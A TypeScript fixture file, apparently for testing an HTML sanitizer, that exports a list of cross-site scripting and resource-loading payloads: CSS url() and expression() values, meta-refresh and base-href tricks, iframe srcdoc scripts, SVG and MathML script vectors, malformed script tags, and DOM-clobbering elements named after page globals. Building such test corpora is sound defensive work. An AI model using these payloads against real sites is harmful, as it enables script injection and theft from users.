import { code, host } from './marks.ts';

const address = `//${host}/§`;
const image = `<img src=x onerror=${code}>`;
const script = `<script>${code}</script>`;

/** CSS values that load or run something, or did in old browsers. */
const values = [
  `background:url(${address})`,
  `background:url("javascript:${code}")`,
  `background-image:u\\72l(${address})`,
  `background:image-set("${address}" 1x)`,
  `list-style:url(${address})`,
  `cursor:url(${address}),auto`,
  `content:url(${address})`,
  `border-image:url(${address}) 1`,
  `mask:url(${address})`,
  `filter:url(${address}#x)`,
  `width:expression(${code})`,
  `width:exp/**/ression(${code})`,
  `xss:ex\\pression(${code})`,
  `behavior:url(${address})`,
  `-moz-binding:url(${address}#x)`,
  `--x:url(${address});background:var(--x)`,
  `color:red;background:url(${address})`,
  `color:red}*{background:url(${address})`,
  `color:red\\3b background:url(${address})`,
  `/**/background:/**/url(${address})`,
  `animation:x 1s" onanimationstart="${code}`,
];
const styled = [
  (value: string) => value,
  (value: string) => `<p style="${value}">x</p>`,
  (value: string) => `<img src=x style='${value}'>`,
  (value: string) => `<style>*{${value}}</style>`,
  (value: string) => `</style><style>p{${value}}`,
];

const documents = [
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,${script}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="javascript:/§/"><a href=#>x</a>`,
  `<base href="${address}/"><script src=x></script>`,
  `<link rel=stylesheet href="${address}">`,
  `<link rel=import href="${address}">`,
  `<link rel=preload as=script href="${address}">`,
  `<link rel=manifest href="${address}">`,
  `<style>@import "${address}";</style>`,
  `<style>@import'javascript:${code}';</style>`,
  `<style>@font-face{font-family:x;src:url(${address})}*{font-family:x}</style>`,
  `<iframe srcdoc="${script}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<img src=x onerror="${code}">' sandbox="allow-scripts allow-same-origin">`,
  `<iframe src="${address}"></iframe>`,
  `<object data="${address}" type=text/html></object>`,
  `<object><param name=movie value="javascript:${code}"></object>`,
  `<applet code="${address}"></applet>`,
  `<frameset><frame src="javascript:${code}"></frameset>`,
  `<isindex action=javascript:${code} type=submit>`,
  `<portal src="${address}"></portal>`,
  `<template shadowrootmode=open>${script}${image}</template>`,
  `<script type=module>import '${address}'</script>`,
  `<script type=importmap>{"imports":{"x":"${address}"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["${address}"]}]}</script>`,
  `<script>${code}</script`,
  `<script/x>${code}</script>`,
  `<script\n>${code}</script\n>`,
  `<script ~~~>${code}</script>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:text/javascript,${code}"/></svg>`,
  `<svg><script xlink:href=${address} /></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${code}">x</maction></math>`,
  `<xml id=x><x>${image}</x></xml>`,
  `<?xml-stylesheet href="javascript:${code}"?>`,
  `<!DOCTYPE x [<!ENTITY y "${image}">]><x>&y;</x>`,
  `<!--[if IE]>${script}<![endif]-->`,
];

/** Global names that an element with such an id or name would clobber. */
const clobbered = [
  'dataLayer',
  '__reactRouterContext',
  '__reactRouterRouteModules',
  '__reactRouterManifest',
  'location',
  'document',
  'navigator',
  'localStorage',
  'matchMedia',
  'history',
  'body',
  'head',
  'getElementById',
  'querySelectorAll',
  'addEventListener',
].flatMap((name) => [
  `<a id=${name} href="javascript:${code}">x</a>`,
  `<img name=${name} src=x>`,
  `<form id=${name}><input name=attributes></form>`,
]);

/** Markup that loads another document, script or style sheet, or clobbers globals of the page. */
export const elsewhere: readonly string[] = [
  ...values.flatMap((value) => styled.map((put) => put(value))),
  ...documents,
  ...clobbered,
];
